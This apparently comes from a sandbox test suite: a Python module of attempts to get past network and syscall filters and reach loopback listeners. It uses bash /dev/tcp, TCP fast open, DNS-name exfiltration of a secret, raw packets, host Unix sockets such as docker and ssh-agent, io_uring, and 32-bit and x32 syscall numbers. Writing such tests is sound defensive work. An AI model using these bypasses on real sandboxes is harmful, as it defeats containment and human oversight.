"""Reaching a listener outside, by each family of sockets and each way around a filter on calls."""

import ctypes
import mmap
import os
import socket
import struct
import time
from pathlib import Path

from support.attacks.kit import Place, attempt, call, call_number, claim, family, show, tried

HELLO = b"breakout"


def _connect(kind: int, address: object, family_: int = socket.AF_INET, protocol: int = 0) -> None:
    with socket.socket(family_, kind, protocol) as line:
        line.settimeout(1)
        line.connect(address)  # type: ignore[arg-type] # the form depends on the family
        line.send(HELLO)


@attempt()
def tcp4(at: Place) -> None:
    """TCP."""
    _connect(socket.SOCK_STREAM, ("127.0.0.1", at.ports["tcp4"]))


@attempt()
def tcp6(at: Place) -> None:
    """TCP over IPv6, which filters forget."""
    _connect(socket.SOCK_STREAM, ("::1", at.ports["tcp6"]), socket.AF_INET6)


@attempt()
def tcp4_mapped_into_6(at: Place) -> None:
    """An IPv4 address inside an IPv6 one."""
    _connect(socket.SOCK_STREAM, ("::ffff:127.0.0.1", at.ports["tcp4"]), socket.AF_INET6)


@attempt()
def tcp_by_other_loopback_address(at: Place) -> None:
    """All of 127/8 is this machine, and 0.0.0.0 too."""
    _connect(socket.SOCK_STREAM, ("0.0.0.0", at.ports["tcp4"]))


@attempt()
def tcp_by_shell(at: Place) -> None:
    """Bash speaks TCP by itself."""
    os.execvp("bash", ["bash", "-c", f"echo breakout >/dev/tcp/127.0.0.1/{at.ports['tcp4']}"])


@attempt()
def tcp_without_connect(at: Place) -> None:
    """TCP fast open connects by sending, so that no connect call is seen."""
    with socket.socket() as line:
        line.settimeout(1)
        line.sendto(HELLO, 0x20000000, ("127.0.0.1", at.ports["tcp4"]))


@family(
    {"mptcp": (socket.AF_INET, 262), "smc": (43, 0), "sctp": (socket.AF_INET, 132)}, inert="needs its module"
)
def tcp_in_other_clothes(at: Place, kind: tuple[int, int]) -> None:
    """Protocols that fall back to TCP, or stand beside it."""
    if kind[0] == 43:  # the address is that of IPv4, which Python does not build for this family
        line = socket.socket(43, socket.SOCK_STREAM, 0)
        where = struct.pack("=HH4s8x", socket.AF_INET, socket.htons(at.ports["tcp4"]), bytes([127, 0, 0, 1]))
        libc = ctypes.CDLL(None, use_errno=True)
        libc.connect(line.fileno(), where, len(where))
        line.send(HELLO)
        return
    _connect(socket.SOCK_STREAM, ("127.0.0.1", at.ports["tcp4"]), kind[0], kind[1])


@attempt()
def udp4(at: Place) -> None:
    """UDP."""
    _connect(socket.SOCK_DGRAM, ("127.0.0.1", at.ports["udp4"]))


@attempt()
def udp6(at: Place) -> None:
    """UDP over IPv6."""
    _connect(socket.SOCK_DGRAM, ("::1", at.ports["udp6"]), socket.AF_INET6)


@attempt()
def dns_question(at: Place) -> None:
    """A secret as the name in a question: resolvers pass it on to anyone."""
    name = b"".join(bytes([len(part)]) + part for part in (b"c2VjcmV0", b"example", b"invalid"))
    question = struct.pack(">HHHHHH", 7, 0x100, 1, 0, 0, 0) + name + b"\0" + struct.pack(">HH", 16, 1)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as line:
        line.sendto(question, ("127.0.0.1", at.ports["udp4"]))


@attempt(root=True)
def raw_datagram(at: Place) -> None:
    """A datagram that we wrote ourselves, header and all."""
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP) as line:
        head = struct.pack(">HHHH", 9, at.ports["udp4"], 8 + len(HELLO), 0)
        line.sendto(head + HELLO, ("127.0.0.1", 0))


@attempt(root=True)
def packet_sent(at: Place) -> None:
    """A whole frame on the loopback interface, with a datagram of IPv6 in it."""
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x86DD)) as line:
        line.bind(("lo", 0))
        ends, size = (bytes(15) + b"\1") * 2, 8 + len(HELLO)
        udp = struct.pack(">HHH", 9, at.ports["udp6"], size)
        summed = ends + struct.pack(">IHBB", size, 0, 0, 17) + udp + b"\0\0" + HELLO
        total = sum(struct.unpack(f">{len(summed) // 2}H", summed))
        total = ~((total & 0xFFFF) + (total >> 16)) & 0xFFFF
        head = struct.pack(">IHBB", 6 << 28, size, 17, 64) + ends
        line.send(bytes(12) + b"\x86\xdd" + head + udp + struct.pack(">H", total) + HELLO)


@attempt(root=True, alone=True)
def packets_heard(_at: Place) -> None:
    """Listen to what others send on the loopback interface."""
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)) as line:
        line.settimeout(0.2)
        ends = time.monotonic() + 0.5
        while time.monotonic() < ends:
            with tried():
                show(line.recv(4096))


@attempt()
def socket_names_by_netlink(_at: Place) -> None:
    """The kernel lists the names of all Unix sockets of a network namespace."""
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 4) as line:
        line.settimeout(1)
        ask = struct.pack("=BBHIIIII", socket.AF_UNIX, 0, 0, 0xFFFFFFFF, 0, 1, 0, 0)
        line.send(struct.pack("=IHHII", 16 + len(ask), 20, 0x301, 1, 0) + ask)
        found = b""
        while len(found) < 6 or found[4:6] != b"\3\0":  # NLMSG_DONE
            found = line.recv(2**16)
            show(found)


@attempt()
def socket_names_by_proc(_at: Place) -> None:
    """The same list as a file."""
    show(Path("/proc/net/unix").read_bytes())


@family(
    {
        "stream": (socket.SOCK_STREAM, "stream"),
        "datagram": (socket.SOCK_DGRAM, "datagram"),
        "packet": (socket.SOCK_SEQPACKET, "packet"),
        "docker_like": (socket.SOCK_STREAM, "docker"),
        "ssh_agent_like": (socket.SOCK_STREAM, "agent"),
        "bus_like": (socket.SOCK_STREAM, "bus"),
        "in_host_tmp": (socket.SOCK_STREAM, "tmp"),
        "abstract_stream": (socket.SOCK_STREAM, "abstract"),
        "abstract_datagram": (socket.SOCK_DGRAM, "abstract_datagram"),
        "display_like": (socket.SOCK_STREAM, "display"),
    }
)
def unix(at: Place, kind: tuple[int, str]) -> None:
    """Sockets of the host: services that run as the user or as root."""
    _connect(kind[0], at.sockets[kind[1]].replace("@", "\0"), socket.AF_UNIX)


@attempt(naive=True)
def unix_named_in_environment(_at: Place) -> None:
    """The agent that the server's environment names."""
    _connect(socket.SOCK_STREAM, os.environ["SSH_AUTH_SOCK"], socket.AF_UNIX)


@attempt()
def unix_by_symlink(at: Place) -> None:
    """A link in the worktree to a socket of the host."""
    link = Path(at.work, "s")
    link.symlink_to(at.sockets["stream"])
    _connect(socket.SOCK_STREAM, str(link), socket.AF_UNIX)


@attempt(plant=lambda at: os.link(at.sockets["stream"], f"{at.work}/hard"))
def unix_by_hard_link(at: Place) -> None:
    """A second name of a socket, inside the worktree."""
    _connect(socket.SOCK_STREAM, f"{at.work}/hard", socket.AF_UNIX)


@family({"path": "datagram", "abstract": "abstract_datagram"})
def datagram_by_socket_pair(at: Place, name: str) -> None:
    """A pair needs no socket call, and a datagram one can send to any name."""
    left, _right = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
    where = at.sockets[name].replace("@", "\0")
    with tried():
        left.sendto(HELLO, where)
    left.connect(where)
    left.send(HELLO)


@attempt(inert="not in each kernel")
def virtual_machine_socket(at: Place) -> None:
    """Sockets between a machine and its host are in no namespace; bound, not connected."""
    with socket.socket(40, socket.SOCK_STREAM) as line:
        line.bind((0xFFFFFFFF, 0xFFFFFFFF))  # any of our addresses, any port
        claim(at, f"a socket to the host of the machine at {line.getsockname()}")


@attempt(alone=True)
def a_service_for_the_host(at: Place) -> None:
    """Listen where a program of the host will call."""
    with socket.create_server(("127.0.0.1", at.ports["free"])) as server:
        server.settimeout(1)
        line, _ = server.accept()
        line.send(HELLO)


@attempt(naive=True)
def inherited_sockets(_at: Place) -> None:
    """Talk back over a connection that the server forgot to close."""
    for number in range(3, 64):
        with tried():
            socket.socket(fileno=os.dup(number)).send(HELLO)


_RING = 4096


def _submit(entry: bytes) -> int:
    """Let the kernel do one thing for us by a ring: no call of that name is made."""
    wanted = ctypes.create_string_buffer(120)
    ring = call("io_uring_setup", 4, wanted)
    told = struct.unpack("30I", wanted.raw)
    queue = mmap.mmap(ring, _RING, offset=0)
    entries = mmap.mmap(ring, _RING, offset=0x10000000)
    sent, done = told[10:20], told[20:30]
    entries[:64] = entry.ljust(64, b"\0")
    queue[sent[6] : sent[6] + 4] = struct.pack("I", 0)
    queue[sent[1] : sent[1] + 4] = struct.pack("I", 1)
    call("io_uring_enter", ring, 1, 1, 1, None, 0)
    start = done[5]
    return int(struct.unpack("i", queue[start + 8 : start + 12])[0])


def _entry(code: int, number: int, offset: int, address: int, length: int, flags: int = 0) -> bytes:
    return struct.pack("BBHiQQII", code, 0, 0, number, offset, address, length, flags)


@attempt()
def ring_reads_a_secret(at: Place) -> None:
    """Open and read through a ring."""
    path = ctypes.create_string_buffer(at.secret.encode())
    opened = _submit(_entry(18, -100, 0, ctypes.addressof(path), 0))
    found = ctypes.create_string_buffer(256)
    _submit(_entry(22, opened, 0, ctypes.addressof(found), 256))
    show(found.raw)


@family({"unix": "stream", "tcp": ""})
def ring_connects(at: Place, name: str) -> None:
    """Make a socket and connect it through a ring."""
    if name:
        where = struct.pack("H", socket.AF_UNIX) + at.sockets[name].encode() + b"\0"
    else:
        port = socket.htons(at.ports["tcp4"])
        where = struct.pack("=HH4s8x", socket.AF_INET, port, bytes([127, 0, 0, 1]))
    line = _submit(_entry(45, struct.unpack("H", where[:2])[0], socket.SOCK_STREAM, 0, 0))
    raw = ctypes.create_string_buffer(where, len(where))
    _submit(_entry(16, line, len(where), ctypes.addressof(raw), 0))
    os.write(line, HELLO)


@attempt(inert="needs calls of 32 bits")
def unix_by_32_bit_calls(at: Place) -> None:
    """A filter that looks at call numbers must look at the architecture too."""
    if os.uname().machine != "x86_64":
        return
    low = mmap.mmap(-1, 4096, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x40, prot=7)
    # push rbx; mov eax,edi; mov ebx,esi; xchg edx,ecx; int 0x80; pop rbx; ret
    low.write(bytes.fromhex("53 89f8 89f3 87d1 cd80 5b c3"))
    base = ctypes.addressof(ctypes.c_char.from_buffer(low))
    run = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_int)(base)
    where = struct.pack("H", socket.AF_UNIX) + at.sockets["stream"].encode() + b"\0"
    low[256 : 256 + len(where)] = where
    line = run(359, socket.AF_UNIX, socket.SOCK_STREAM, 0)
    run(362, line, base + 256, len(where))
    os.write(line, HELLO)


@attempt(inert="needs calls of the x32 kind")
def unix_by_x32_calls(at: Place) -> None:
    """Numbers with one bit more mean the same calls on some kernels."""
    line = call_number(0x40000000 | 41, socket.AF_UNIX, socket.SOCK_STREAM, 0)
    where = struct.pack("H", socket.AF_UNIX) + at.sockets["stream"].encode() + b"\0"
    call_number(0x40000000 | 42, line, where, len(where))
    os.write(line, HELLO)
